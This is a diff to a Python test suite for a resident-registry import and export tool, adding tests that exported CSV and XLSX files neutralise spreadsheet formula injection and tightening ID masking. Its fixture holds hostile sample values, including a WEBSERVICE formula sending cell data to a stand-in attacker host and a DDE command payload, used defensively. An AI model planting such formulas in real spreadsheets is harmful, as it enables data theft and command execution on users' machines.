@@ -102,6 +102,8 @@ def write_rows(
         sheet.append(header)
         for line in lines:
             sheet.append(line)
+        for cell in (c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)):
+            cell.data_type = "s"  # text as typed into a text cell, never a formula
         workbook.save(path)
     else:
         with path.open("w", encoding=encoding, newline="") as handle:
@@ -231,7 +233,7 @@ def test_csv_import_stores_residents_encrypted_with_their_house(city, tmp_path):
     zhang = resident(city, 11)
     assert (zhang.name, zhang.sex.value, zhang.birth_date) == ("张三", "male", date(1985, 6, 15))
     assert (zhang.grid_code, zhang.district_code, zhang.ethnicity) == (GRID_A, "420502", "汉族")
-    assert zhang.doc_masked == id_number(11)[:6] + "********" + id_number(11)[-4:]
+    assert zhang.doc_masked == id_number(11)[:6] + "*" * 11 + id_number(11)[-1:]
     assert id_number(11).encode() not in zhang.doc_enc
     assert clear_text(city, zhang.id) == (id_number(11), "13812345678")
     assert history(city, zhang.id) == [("BA-1-0101", date(2020, 1, 1), None)]
@@ -625,7 +627,8 @@ def test_a_grid_worker_cannot_update_a_person_of_another_grid(city, tmp_path):
     run(city, write_rows(tmp_path / "一.csv", [person(11, house_code="BB-1-0101")]))
     report = run(city, write_rows(tmp_path / "二.csv", [person(11, name="改名")]), actor="worker_a")
     error = the_error(report)
-    assert error.column == "证件号码" and f"in grid {GRID_B}" in error.reason
+    assert error.column == "证件号码" and "already registered outside your grids" in error.reason
+    assert GRID_B not in error.reason  # where the person lives is not the importer's business
     assert resident(city, 11).name == "张三"
 
 
@@ -733,11 +736,14 @@ def test_masked_export_has_no_clear_id_numbers_and_logs_nothing(city, tmp_path, 
 
     content = "\n".join(",".join(line) for line in read_back(path))
     assert id_number(11) not in content and "13812345678" not in content
-    assert id_number(11)[:6] + "********" in content
+    assert id_number(11)[:6] + "*" * 11 in content
     assert "cannot be re-imported" in read_back(path)[0][0]
     assert count(city["session"], PiiAccessLog) == 0
     again = run(city, path)
-    assert again.imported == 0 and all("is masked" in e.reason for e in again.rejected)
+    assert again.imported == 0
+    # Each row is refused for its masked ID number (its year-only birth date is refused too).
+    masked_ids = [e for e in again.rejected if e.column == "证件号码"]
+    assert len(masked_ids) == 2 and all("is masked" in e.reason for e in masked_ids)
 
 
 def test_a_grid_worker_exports_only_their_grids(city, tmp_path):
@@ -846,3 +852,71 @@ def test_cli_exports_unmasked_only_with_a_reason(cli, city, tmp_path):
     done = cli("export", tmp_path / "x.csv", "--as", "boss", "--unmasked", "--reason", "年度核对")
     assert done.exit_code == 0 and "exported 1 residents" in done.output
     assert id_number(11) in (tmp_path / "x.csv").read_text(encoding="utf-8-sig")
+
+
+# --- formula injection ----------------------------------------------------------------------
+
+FORMULAS = {
+    "name": "=1+1",
+    "former_name": "@SUM(A1:A9)",
+    "employer": '=WEBSERVICE("http://evil.example/?"&A1)',
+    "occupation": "＝1+1",
+    "native_place": "-2+3",
+    "registered_address": "+西陵一路",
+    "origin": "\t=cmd|' /C calc'!A0",
+}
+
+
+def assert_no_live_formula(path: Path) -> None:
+    """No cell of the file would run as a formula in Excel or WPS."""
+    leads = tuple("=+-@\t\r＝＋－＠")
+    if path.suffix == ".xlsx":
+        workbook = openpyxl.load_workbook(path)
+        cells = [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row]
+        assert cells and all(c.data_type != "f" for c in cells)
+        for cell in cells:
+            if isinstance(cell.value, str) and cell.value.startswith(leads):
+                assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
+        return
+    for line in read_back(path):
+        for cell in line:
+            assert not cell.startswith(leads), cell
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
+def test_formula_text_is_exported_inert_and_reimports_unchanged(city, tmp_path, suffix):
+    rows = [person(11, residence_type="流动人口", **FORMULAS)]
+    assert run(city, write_rows(tmp_path / "台账.csv", rows)).rejected == []
+    before = ledger_fields(city)
+    assert before[0]["name"] == "=1+1"
+
+    masked, unmasked = tmp_path / f"脱敏{suffix}", tmp_path / f"明文{suffix}"
+    export_residents(city["session"], actor=city["admin"], path=masked)
+    export_residents(
+        city["session"], actor=city["admin"], path=unmasked, unmasked=True, reason="台账核对"
+    )
+    assert_no_live_formula(masked)
+    assert_no_live_formula(unmasked)
+
+    city["session"].execute(delete(Residence))
+    city["session"].execute(delete(Resident))
+    again = run(city, unmasked)
+    assert (again.inserted, again.rejected) == (1, [])
+    assert ledger_fields(city) == before
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
+def test_error_files_carry_formula_text_inert(city, tmp_path, suffix):
+    rows = [person(11, phone="12", **FORMULAS)]
+    report = run(city, write_rows(tmp_path / f"台账{suffix}", rows))
+    assert report.error_file is not None and len(report.rejected) == 1
+    assert_no_live_formula(report.error_file)
+    lines = read_back(report.error_file)
+    fixed = lines[1]
+    fixed[lines[0].index("联系电话")] = "13900001111"
+    if suffix == ".csv":
+        with report.error_file.open("w", encoding="utf-8-sig", newline="") as handle:
+            csv.writer(handle).writerows(lines)
+        again = run(city, report.error_file)
+        assert (again.inserted, again.rejected) == (1, [])
+        assert resident(city, 11).name == "=1+1"
